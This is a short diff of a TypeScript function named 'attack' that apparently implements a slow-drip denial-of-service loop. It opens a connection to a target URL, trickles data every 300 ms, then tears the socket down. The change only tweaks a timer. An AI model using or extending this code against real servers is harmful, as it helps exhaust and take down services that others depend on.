@@ -32,7 +32,7 @@ export default function attack(target: Target): void {
       const startedMs = performance.now()
       const connection = await connectTo(target.url, begin)
       const dripping = setInterval(connection.send, 300, drip)
-      await Promise.race([letGo(connection), pause(boundMs)])
+      await Promise.race([letGo(connection), pause(boundMs, undefined, { ref: false })])
       clearInterval(dripping)
       connection.socket.destroy()
       const tookMs = performance.now() - startedMs
